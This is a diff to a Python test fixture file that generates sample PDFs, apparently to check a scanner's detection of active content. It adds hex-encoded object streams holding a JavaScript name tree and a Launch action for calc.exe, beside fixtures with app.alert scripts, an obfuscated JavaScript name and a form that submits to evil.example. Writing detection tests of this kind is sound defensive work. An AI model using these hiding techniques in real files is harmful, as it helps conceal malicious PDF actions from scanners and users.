@@ -26,8 +26,8 @@ def pdf(change: Callable[[PdfWriter], object] = lambda _: None, packed: bool = F
     return squeezed(target.getvalue()) if packed else target.getvalue()
 
 
-def squeezed(data: bytes) -> bytes:
-    """Return the document with its objects in a packed stream (ISO 32000-1, 7.5.7)."""
+def squeezed(data: bytes, way: str = "FlateDecode") -> bytes:
+    """Return the document with its objects in a stream (ISO 32000-1, 7.5.7), packed or in hexadecimal."""
     reader = PdfReader(io.BytesIO(data))
     bodies, offsets, at = [], [], 0
     numbers = sorted(number for number in reader.xref[0] if number)
@@ -38,12 +38,13 @@ def squeezed(data: bytes) -> bytes:
         bodies.append(target.getvalue() + b"\n")
         at += len(bodies[-1])
     head = (" ".join(offsets) + " ").encode()
-    part = zlib.compress(head + b"".join(bodies))
+    whole = head + b"".join(bodies)
+    part = zlib.compress(whole) if way == "FlateDecode" else whole.hex().encode() + b">"
     of, last = max(numbers) + 1, max(numbers) + 2
     out = b"%PDF-1.5\n"
     start = len(out)
-    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n" % (
-        of, len(numbers), len(head), len(part), part)  # fmt: skip
+    out += b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/%s/Length %d>>stream\n%s\nendstream\nendobj\n" % (
+        of, len(numbers), len(head), way.encode(), len(part), part)  # fmt: skip
     table = len(out)
     rows = b"\0\0\0\0\xff" + b"".join(
         b"\2" + struct.pack(">HH", of, numbers.index(n)) if n in numbers else b"\0\0\0\0\xff" for n in range(1, of)
@@ -100,15 +101,24 @@ def with_zip(data: bytes) -> bytes:
 
 NAMED = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject()})})
 
+
+
+def by_name(writer: PdfWriter) -> None:
+    writer.root_object.update({NameObject("/Names"): NAMED})
+
+
 FILES = {
     "a document": ("pdf", pdf(), ""),
     "a packed document": ("pdf", pdf(packed=True), ""),
     "a web link": ("pdf", pdf(opening("URI", URI="https://example.org/")), ""),
-    "a script by name": ("pdf", pdf(lambda made: made.root_object.update({NameObject("/Names"): NAMED})), "JavaScript"),
+    "a script by name": ("pdf", pdf(by_name), "JavaScript"),
     "a script on opening": ("pdf", pdf(opening("JavaScript", JS="app.alert(1)")), "JavaScript"),
     "a packed script": ("pdf", pdf(opening("JavaScript", JS="app.alert(1)"), packed=True), "JavaScript"),
     "a script's name in hexadecimal": (
         "pdf", pdf(opening("JavaScript", JS="1")).replace(b"/JavaScript", b"/J#61v#61Script"), "JavaScript"),
+    "a document in hexadecimal": ("pdf", squeezed(pdf(), "ASCIIHexDecode"), ""),
+    "a script by name in hexadecimal": ("pdf", squeezed(pdf(by_name), "ASCIIHexDecode"), "JavaScript"),
+    "a program in hexadecimal": ("pdf", squeezed(pdf(opening("Launch", F="calc.exe")), "ASCIIHexDecode"), "Launch"),
     "a program": ("pdf", pdf(opening("Launch", F="calc.exe")), "Launch"),
     "a packed program": ("pdf", pdf(opening("Launch", F="calc.exe"), packed=True), "Launch"),
     "a form that sends": ("pdf", pdf(opening("SubmitForm", F="https://evil.example/")), "SubmitForm"),
